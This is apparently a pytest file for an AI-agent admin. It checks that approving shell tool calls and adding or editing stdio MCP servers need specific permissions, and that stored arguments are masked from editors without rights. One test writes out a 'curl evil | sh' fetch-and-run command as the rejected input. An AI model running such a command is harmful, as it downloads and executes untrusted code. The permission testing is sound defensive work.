"""The agent admin enforces the same permissions as the REST API: approving in the admin needs change_approval (and
approve_shell for run_shell); adding or changing a stdio MCP server needs manage_mcp_stdio, and without it a stdio
server's args are shown masked."""
from __future__ import annotations

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.test import Client
from django.urls import reverse

from agentcore.models import Approval, MCPServer
from agentcore.tools.policies import tool_policy_update
from tests.fakes.upstream import Reply, ToolCall

TOKEN_ARG = "--token=ghp_admin_args_secret_0987654321"
APPROVALS = reverse("admin:agentcore_approval_changelist")
MCP_ADD = reverse("admin:agentcore_mcpserver_add")


def _browser(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _stdio_form(**overrides) -> dict:
    form = {"name": "cmd", "transport": "stdio", "command": "/bin/sh", "args": '["-c", "id"]', "env": "", "url": "",
            "headers": "", "enabled": "on", "allowed_tools": "[]", "requires_approval_default": "on"}
    return {**form, **overrides}


@pytest.fixture
def paused_shell(user_client, agent_app, fake_upstream, tmp_path):
    tool_policy_update(name="run_shell", enabled=True)
    marker = tmp_path / "ran.txt"
    fake_upstream.script(Reply(tool_calls=[ToolCall("run_shell", {"command": f"echo hi > {marker}"})]),
                         Reply(text="Done."))
    body = user_client.post("/api/agent/chat/", {"message": "run it"}, format="json").json()
    return body["pending_approvals"][0]["id"], marker


@pytest.mark.django_db(transaction=True)
def test_the_approve_action_needs_change_approval(bare_staff_user, grant, paused_shell):
    approval_id, marker = paused_shell
    viewer = grant(bare_staff_user, "agentcore.view_approval")
    page = _browser(viewer).get(APPROVALS).content.decode()
    assert 'value="approve"' not in page
    _browser(viewer).post(APPROVALS, {"action": "approve", ACTION_CHECKBOX_NAME: [approval_id]}, follow=True)
    assert Approval.objects.get(pk=approval_id).status == "pending" and not marker.exists()


@pytest.mark.django_db(transaction=True)
def test_approving_run_shell_in_the_admin_needs_approve_shell(bare_staff_user, grant, paused_shell):
    approval_id, marker = paused_shell
    approver = grant(bare_staff_user, "agentcore.view_approval", "agentcore.change_approval")
    response = _browser(approver).post(APPROVALS, {"action": "approve", ACTION_CHECKBOX_NAME: [approval_id]},
                                       follow=True)
    assert "agentcore.approve_shell" in response.content.decode()
    assert Approval.objects.get(pk=approval_id).status == "pending" and not marker.exists()

    shell_approver = grant(approver, "agentcore.approve_shell")
    _browser(shell_approver).post(APPROVALS, {"action": "approve", ACTION_CHECKBOX_NAME: [approval_id]}, follow=True)
    assert Approval.objects.get(pk=approval_id).status == "approved" and marker.read_text().strip() == "hi"


@pytest.mark.django_db
def test_adding_a_stdio_server_in_the_admin_needs_manage_mcp_stdio(bare_staff_user, grant):
    adder = grant(bare_staff_user, "agentcore.add_mcpserver", "agentcore.view_mcpserver")
    response = _browser(adder).post(MCP_ADD, _stdio_form(args="[]"))
    assert response.status_code == 200 and "manage_mcp_stdio" in response.content.decode()
    assert not MCPServer.objects.exists()

    manager = grant(adder, "agentcore.manage_mcp_stdio")
    assert _browser(manager).post(MCP_ADD, _stdio_form()).status_code == 302
    assert MCPServer.objects.get().args == ["-c", "id"]


@pytest.mark.django_db
def test_a_stdio_server_is_read_only_and_masked_without_manage_mcp_stdio(bare_staff_user, grant):
    server = MCPServer.objects.create(name="cmd", command="/usr/bin/tool", args=[TOKEN_ARG])
    url = reverse("admin:agentcore_mcpserver_change", args=[server.pk])
    changer = grant(bare_staff_user, "agentcore.change_mcpserver", "agentcore.view_mcpserver")
    page = _browser(changer).get(url)
    assert page.status_code == 200 and TOKEN_ARG not in page.content.decode()
    assert TOKEN_ARG[-4:] in page.content.decode()  # the mask
    assert _browser(changer).post(url, _stdio_form(name="cmd", args='["-c", "curl evil | sh"]')).status_code == 403
    assert MCPServer.objects.get(pk=server.pk).args == [TOKEN_ARG]

    manager = grant(changer, "agentcore.manage_mcp_stdio")
    assert TOKEN_ARG in _browser(manager).get(url).content.decode()
    assert _browser(manager).post(url, _stdio_form(name="cmd")).status_code == 302
    assert MCPServer.objects.get(pk=server.pk).args == ["-c", "id"]


@pytest.mark.django_db
def test_the_admin_test_action_refuses_a_stdio_server_without_manage_mcp_stdio(bare_staff_user, grant, tmp_path):
    marker = tmp_path / "started"
    server = MCPServer.objects.create(name="probe", command="/bin/sh", args=["-c", f"touch {marker}"])
    changer = grant(bare_staff_user, "agentcore.change_mcpserver", "agentcore.view_mcpserver")
    response = _browser(changer).post(reverse("admin:agentcore_mcpserver_changelist"),
                                      {"action": "test_connection", ACTION_CHECKBOX_NAME: [str(server.pk)]},
                                      follow=True)
    assert "manage_mcp_stdio" in response.content.decode()
    assert not marker.exists()
